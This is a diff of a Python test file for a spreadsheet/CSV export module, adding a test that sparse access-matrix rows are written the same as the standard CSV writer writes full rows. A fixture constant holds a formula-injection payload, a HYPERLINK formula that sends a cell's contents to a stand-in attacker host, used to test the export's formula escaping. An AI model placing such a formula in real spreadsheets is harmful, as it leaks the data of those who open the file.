@@ -8,7 +8,16 @@ import json
 import stat
 from pathlib import Path
 
-from hubtui.core.presenting.export import formula_safe, render, typed_cell, write_export
+import pytest
+
+from hubtui.core.presenting.export import (
+    SparseCsvRow,
+    formula_safe,
+    render,
+    typed_cell,
+    write_csv,
+    write_export,
+)
 
 FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
 
@@ -60,3 +69,29 @@ def test_a_file_is_private_and_never_replaced(tmp_path: Path) -> None:
     assert path.read_text() == "first\n"
     assert second.read_text() == "second\n"
     assert stat.S_IMODE(second.stat().st_mode) == 0o600
+
+
+@pytest.mark.parametrize("head", [[], ["a@b.example"], ["x,y", 'say "hi"', "", "line\nbreak"]])
+def test_a_sparse_row_is_written_exactly_as_the_csv_writer_writes_every_cell(
+    head: list[str],
+) -> None:
+    """The access matrix writes each person's row as its filled cells and commas: the file is
+    the one the CSV writer makes of every cell, quotes, commas, line breaks and empty cells
+    included, at either end of the row."""
+    tricky = ["Editor", "LIMITED", 'Re"ader', "Admin,Owner", "two\nlines", " spaced", "'=1+1"]
+    rows = [
+        SparseCsvRow(head, 7, {}),
+        SparseCsvRow(head, 7, {0: "Editor"}),
+        SparseCsvRow(head, 7, {6: "LIMITED", 0: "Reader"}),
+        SparseCsvRow(head, 7, dict(enumerate(tricky))),
+        SparseCsvRow(head, 7, {3: tricky[2], 5: tricky[4], 4: ""}),
+        SparseCsvRow(head, 1, {0: tricky[3]}),
+    ]
+    sparse, dense = io.StringIO(), io.StringIO()
+    columns = [f"c{n}" for n in range(len(head) + 7)]
+    write_csv(sparse, {"hub": "acme"}, columns, rows)
+    write_csv(dense, {"hub": "acme"}, columns, [])
+    csv.writer(dense, lineterminator="\n").writerows(row.cells() for row in rows)
+    assert sparse.getvalue() == dense.getvalue()
+    written = list(csv.reader(io.StringIO(sparse.getvalue())))
+    assert written[2 + 3] == [*head, *tricky]
